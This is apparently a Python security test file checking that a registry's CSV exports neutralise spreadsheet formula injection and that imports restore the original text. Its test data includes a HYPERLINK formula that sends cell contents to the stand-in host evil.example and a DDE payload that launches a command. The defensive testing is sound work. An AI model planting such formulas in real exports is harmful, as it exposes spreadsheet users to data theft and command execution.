"""Finding 1: CSV formula injection. Every CSV export neutralises cells that a spreadsheet would run as a
formula (a leading apostrophe), and importing an export gives the original text back."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pandas as pd
from tests.security.conftest import API, approve, submit

from wsis.registry import commitments
from wsis.registry.cells import TRIGGERS, neutralise, restore
from wsis.registry.opendata import export_all, import_csv
from wsis.registry.policy import SYSTEM, Actor
from wsis.registry.schemas import CommitmentIn, ModerationIn

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ORG = "+Org that adds"
COMMITMENT = "@SUM(1+1) pledge"
COMMITMENT_ORG = "-1+2 Holdings"


def _evil_registry(reg, users) -> None:
    iid = submit(reg, users["alice"][1], title=EVIL, org=ORG)
    approve(reg, users["mod"][1], iid)
    c = commitments.submit_commitment(reg, users["alice"][1], CommitmentIn.model_validate({
        "title": COMMITMENT, "target": "=1+1 networks", "deadline": "2030-12-31",
        "organisation": {"name": COMMITMENT_ORG, "stakeholder_group": "private_sector"},
        "registered_on": dt.date.today().isoformat()}))
    commitments.moderate_commitment(reg, users["mod"][1], c["id"], ModerationIn(decision="approve"))


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _no_live_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for col, cell in row.items():
            assert not (cell or "").startswith(TRIGGERS), (col, cell)


def test_http_csv_exports_start_with_an_apostrophe(http, reg, users):
    _evil_registry(reg, users)
    inis = _cells(http.get(f"{API}/export/initiatives.csv").text)
    assert inis[0]["title"] == "'" + EVIL and inis[0]["organisation"] == "'" + ORG
    texts = _cells(http.get(f"{API}/export/initiative_texts.csv").text)
    assert texts[0]["title"] == "'" + EVIL
    coms = _cells(http.get(f"{API}/export/commitments.csv").text)
    assert coms[0]["title"] == "'" + COMMITMENT and coms[0]["organisation"] == "'" + COMMITMENT_ORG
    assert coms[0]["target"] == "'=1+1 networks"
    for table in ("initiatives", "initiative_texts", "commitments", "progress_reports", "roadmaps", "milestones",
                  "deliverables"):
        _no_live_formula(_cells(http.get(f"{API}/export/{table}.csv").text))
    # the JSON export is data, not a spreadsheet: it keeps the text as typed
    assert http.get(f"{API}/export/registry.json").json()["initiatives"][0]["title"] == EVIL


def test_cli_export_folder_and_round_trip_import(reg, users, tmp_path):
    """`wsis registry export` writes safe CSVs; `wsis registry import` of that file restores the text."""
    _evil_registry(reg, users)
    export_all(reg, tmp_path / "out")
    for path in (tmp_path / "out").glob("*.csv"):
        _no_live_formula(_cells(path.read_text(encoding="utf-8")))
    rows = _cells((tmp_path / "out" / "initiatives.csv").read_text(encoding="utf-8"))
    assert rows[0]["title"].startswith("'=")
    operator = Actor(user_id=users["admin"][0], role="admin", scopes=SYSTEM.scopes, via="system")
    res = import_csv(reg, operator, tmp_path / "out" / "initiatives.csv")
    from wsis.registry import services

    back = services.get_initiative(reg, users["admin"][1], res["ids"][0])
    assert back["title"] == EVIL and back["organisation"]["name"] == ORG


def test_neutralise_round_trips_every_prefix():
    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''@x", "'plain", "plain", "", "a=b"):
        out = neutralise(text)
        assert not out.startswith(TRIGGERS)
        assert restore(out) == text
    assert neutralise(3) == 3 and neutralise(-1.5) == -1.5 and neutralise(None) is None


def test_dashboard_csv_twins_are_neutralised():
    from wsis.web.render import csv_response

    df = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Kenya"], "value": [-1.5, 2.0]})
    rows = _cells(csv_response(df, "t").body.decode())
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0" and rows[0]["value"] == "-1.5"  # numbers unchanged
